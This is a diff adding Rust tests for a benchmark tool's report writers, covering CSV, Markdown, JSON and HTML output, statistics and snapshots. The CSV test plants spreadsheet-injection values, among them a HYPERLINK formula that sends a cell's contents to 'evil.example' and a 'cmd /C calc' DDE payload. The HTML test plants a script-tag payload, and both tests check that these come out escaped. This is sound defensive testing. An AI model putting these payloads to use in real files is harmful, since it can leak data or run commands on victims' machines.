@@ -1,0 +1,284 @@
+//! Snapshot tests of the Markdown, CSV and JSON writers on fixed synthetic samples, and the
+//! HTML writer's escaping of hostile trace text.
+
+use crate::support;
+
+use ctxbench::report::{csv, html, json, markdown, ReportModel};
+
+fn model() -> (ctxbench::record::RunInfo, ReportModel) {
+    let info = support::report::info("run-fixed");
+    let model = ReportModel::build(&info, support::report::samples());
+    (info, model)
+}
+
+#[test]
+fn markdown_snapshot() {
+    let (info, model) = model();
+    insta::assert_snapshot!("report_md", markdown::render(&info, &model));
+}
+
+#[test]
+fn csv_snapshot() {
+    let (info, model) = model();
+    insta::assert_snapshot!("results_csv", csv::render(&info, &model));
+}
+
+#[test]
+fn json_snapshot() {
+    let (info, model) = model();
+    insta::assert_snapshot!("summary_json", json::render(&info, &model));
+}
+
+#[test]
+fn csv_is_rectangular_with_flat_columns() {
+    let (info, model) = model();
+    let text = csv::render(&info, &model);
+    let mut r = ::csv::Reader::from_reader(text.as_bytes());
+    let header = r.headers().unwrap().clone();
+    for col in [
+        "unit_id",
+        "params.depth",
+        "needle.recall",
+        "drift.score",
+        "tokens.judge.input",
+        "tokens.total",
+        "cost.total",
+        "compactions.summarized",
+        "error_kind",
+    ] {
+        assert!(
+            header.iter().any(|h| h == col),
+            "missing column {col}: {header:?}"
+        );
+    }
+    let rows: Vec<_> = r.records().map(|r| r.unwrap()).collect();
+    assert_eq!(rows.len(), model.samples.len());
+    assert!(rows.iter().all(|row| row.len() == header.len()));
+    assert!(
+        !header.iter().any(|h| h.starts_with("scores.")),
+        "scores are namespaced by eval: {header:?}"
+    );
+    let idx = |name: &str| header.iter().position(|h| h == name).unwrap();
+    // a row fills only its own eval's score columns; whole scores are written as floats
+    let needle = rows.iter().find(|r| &r[idx("eval")] == "needle").unwrap();
+    assert_eq!(&needle[idx("needle.recall")], "1.0");
+    assert_eq!(&needle[idx("drift.score")], "");
+    assert_eq!(&needle[idx("tokens.total")], "12300");
+    // drift units used an unpriced judge: their total cost is empty, not 0
+    let drift = rows.iter().find(|r| &r[idx("eval")] == "drift").unwrap();
+    assert_eq!(&drift[idx("cost.total")], "");
+    assert_eq!(&drift[idx("tokens.judge.input")], "800");
+    // the failed unit keeps its multi-line message in one quoted cell
+    let failed = rows
+        .iter()
+        .find(|r| !r[idx("error_kind")].is_empty())
+        .unwrap();
+    assert!(failed[idx("error_message")].contains("second line"));
+}
+
+#[test]
+fn csv_escapes_formula_cells_and_keeps_negative_numbers() {
+    let info = support::report::info("run-hostile");
+    let mut samples = support::report::samples();
+    let link = r#"=HYPERLINK("http://evil.example/?q="&A1,"open")"#;
+    for s in &mut samples {
+        s.trace_id = link.to_string();
+    }
+    samples[0].scores.insert("delta".into(), -0.25);
+    let delta = format!("{}.delta", samples[0].eval);
+    samples[0]
+        .params
+        .insert("note".into(), serde_json::json!("@SUM(A1:A9)"));
+    samples[0].error = Some(ctxbench::record::UnitError {
+        kind: "bad_response".into(),
+        message: "+cmd|' /C calc'!A0".into(),
+    });
+    let model = ReportModel::build(&info, samples);
+    let text = csv::render(&info, &model);
+    let mut r = ::csv::Reader::from_reader(text.as_bytes());
+    let header = r.headers().unwrap().clone();
+    let idx = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<_> = r.records().map(|r| r.unwrap()).collect();
+    assert!(!rows.is_empty());
+    for row in &rows {
+        assert_eq!(&row[idx("trace_id")], format!("'{link}"));
+        // No cell of any row starts a formula.
+        for cell in row.iter() {
+            let hostile = cell.starts_with(['=', '+', '@', '\t', '\r'])
+                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
+            assert!(!hostile, "unescaped cell {cell:?}");
+        }
+    }
+    let first = rows
+        .iter()
+        .find(|r| !r[idx(&delta)].is_empty())
+        .expect("the row with a delta");
+    assert_eq!(&first[idx(&delta)], "-0.25", "numbers stay numbers");
+    assert_eq!(&first[idx("params.note")], "'@SUM(A1:A9)");
+    assert_eq!(&first[idx("error_message")], "'+cmd|' /C calc'!A0");
+}
+
+#[test]
+fn html_escapes_hostile_trace_text_and_has_no_script_but_its_own_or_external_reference() {
+    let info = support::report::info("run-fixed");
+    let mut samples = support::report::samples();
+    support::report::add_summaries(&mut samples);
+    let model = ReportModel::build(&info, samples);
+    let page = html::render(&info, &model);
+    // One script element: the page's own, allowed by its hash in the CSP.
+    assert_eq!(page.to_lowercase().matches("<script").count(), 1);
+    let own = format!("<script>{}</script>", html::SCRIPT);
+    assert!(page.contains(&own));
+    // (in the attribute, quotes are escaped like any text)
+    assert!(page.contains(&format!(
+        "{}\"",
+        html::escape(&format!("script-src {}", html::script_hash(html::SCRIPT)))
+    )));
+    assert!(!page.contains("unsafe-inline'; script") && !page.contains("'unsafe-eval'"));
+    let without_script = page.replace(&own, "");
+    assert!(without_script.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
+    // Hostile summary text inside the word diff stays text.
+    assert!(without_script.contains("<ins>ship &lt;script&gt;alert(1)&lt;/script&gt;</ins>"));
+    for needle in ["http://", "https://", "src=", "@import", "url("] {
+        for (i, _) in without_script.match_indices(needle) {
+            let around = &without_script[i.saturating_sub(60)..(i + 80).min(without_script.len())];
+            // The only URLs allowed are XML namespace declarations of inline SVG.
+            assert!(
+                around.contains("xmlns"),
+                "external reference `{needle}` near: {around}"
+            );
+        }
+    }
+    assert!(page.contains("Content-Security-Policy"));
+    assert!(page.contains("id=\"summary-table\""));
+    assert!(page.contains("id=\"comparison-table\""));
+    // timeline table with the evicted/summarized detail
+    assert!(page.contains("summarized messages 1..4 into conversation_history/s.md"));
+    assert!(
+        page.matches("<svg").count() >= 5,
+        "plots and timelines are inline SVG"
+    );
+}
+
+/// The page's outline: headings, tables with their ids and headers, the samples table's rows,
+/// and the sample views (anchor, status, variant, side-by-side folds). Plots are left out
+/// (their SVG is plotters' business).
+fn outline(page: &str) -> String {
+    let tag = regex::Regex::new(
+        r##"<h[1-4][^>]*>.*?</h[1-4]>|<table[^>]*>|<th[^>]*>.*?</th>|<details class="(sample|fold)"[^>]*>|<div class="ab">|<a href="#[^"]*">[^<]*</a>"##,
+    )
+    .unwrap();
+    let strip = regex::Regex::new(r"<[^>]+>").unwrap();
+    let mut out = String::new();
+    for m in tag.find_iter(page) {
+        let t = m.as_str();
+        let line = if t.starts_with("<h") && !t.starts_with("<html") {
+            format!("{} {}", &t[..3], strip.replace_all(t, ""))
+        } else if t.starts_with("<th") {
+            format!("  th {}", strip.replace_all(t, ""))
+        } else {
+            t.to_string()
+        };
+        out.push_str(&line);
+        out.push('\n');
+    }
+    out
+}
+
+#[test]
+fn html_structure_snapshot() {
+    let info = support::report::info("run-fixed");
+    let mut samples = support::report::samples();
+    support::report::add_summaries(&mut samples);
+    let model = ReportModel::build(&info, samples);
+    let page = html::render(&info, &model);
+    insta::assert_snapshot!("report_html_outline", outline(&page));
+}
+
+#[test]
+fn statistics_in_the_model_reflect_the_fixture() {
+    let (_, model) = model();
+    let c = model
+        .comparisons
+        .iter()
+        .find(|c| c.candidate == "aggressive" && c.metric == "needle.pass")
+        .unwrap();
+    // 16 pairs; aggressive lost 6 of them (depth 0.25 except one repeat per trace), gained none.
+    assert_eq!(c.n_pairs, 16);
+    let m = c.mcnemar.unwrap();
+    assert_eq!((m.b, m.c), (6, 0));
+    // The pairs share a few traces: McNemar's counts are shown, but the p-value resamples by
+    // trace and fewer than 6 traces give no verdict.
+    assert!(c.clustered && c.too_few_traces);
+    assert!(c.n_traces < 6);
+    assert!(!c.significant);
+    let agg = model.variant("aggressive").unwrap();
+    assert_eq!(agg.errors, 1);
+    // judge price unknown → total unknown, never 0
+    assert_eq!(agg.usage.cost.total_usd, None);
+    assert!(agg.usage.cost.agent.usd.unwrap() > 0.0);
+}
+
+#[test]
+fn terminal_verdict_snapshot() {
+    let (_, model) = model();
+    let text = ctxbench::report::terminal::summary(&model, 100);
+    assert!(
+        text.lines().all(|l| l.chars().count() <= 100),
+        "wider than 100 columns:\n{text}"
+    );
+    assert!(
+        !model.verdicts.is_empty(),
+        "the fixed samples have a baseline"
+    );
+    insta::assert_snapshot!("terminal_summary", text);
+}
+
+#[test]
+fn suite_choice_of_headline_metrics_is_followed() {
+    let mut info = support::report::info("run-fixed");
+    info.suite = serde_json::json!({"report": {"metrics": ["tokens", "nope"]}});
+    let model = ReportModel::build(&info, support::report::samples());
+    assert_eq!(model.headline, ["tokens"]);
+    assert!(model.notes.iter().any(|n| n.contains("nope")));
+    // report.html shows the notes' code spans as code, as report.md does, not as backticks.
+    let page = html::render(&info, &model);
+    let notes = page.split("id=\"notes\"").nth(1).unwrap();
+    let notes = notes.split("</ul>").next().unwrap();
+    assert!(notes.contains("<code>cost.judge</code>"), "{notes}");
+    assert!(!notes.contains('`'), "{notes}");
+    let md = markdown::render(&info, &model);
+    let verdict = md.split("## Verdict").nth(1).unwrap();
+    let verdict = verdict.split("## Summary").next().unwrap();
+    assert!(verdict.contains("tokens"));
+    assert!(!verdict.contains("recall"), "{verdict}");
+}
+
+/// A unit both flagged (a futile compaction) and failed shows "flagged" as its status and
+/// keeps "fail" in the verdict column, so the filter the page suggests (`verdict=fail`) finds
+/// every failed unit of a variant, flagged or not.
+#[test]
+fn html_samples_table_keeps_the_verdict_of_flagged_units() {
+    let info = support::report::info("run-fixed");
+    let mut samples = support::report::samples();
+    let s = samples
+        .iter_mut()
+        .find(|s| s.variant == "aggressive" && s.passed == Some(false))
+        .unwrap();
+    s.compactions.insert("futile".into(), 2);
+    let id = s.trace_id.clone();
+    let sample = s.sample.clone();
+    let model = ReportModel::build(&info, samples);
+    let page = html::render(&info, &model);
+    let table = page.split("id=\"samples-table\"").nth(1).unwrap();
+    let table = table.split("</table>").next().unwrap();
+    assert!(table.contains(">verdict</th>"), "{table}");
+    assert!(page.contains("<code>verdict=fail variant=aggressive</code>"));
+    let row = table
+        .split("<tr")
+        .find(|r| r.contains(&id) && r.contains(&sample) && r.contains(">flagged<"))
+        .unwrap_or_else(|| panic!("no flagged row for {id} {sample}"));
+    let cells: Vec<&str> = row.split("<td").skip(1).collect();
+    assert!(cells[0].contains("flagged"), "{row}");
+    assert!(cells[1].contains(">fail<"), "{row}");
+}
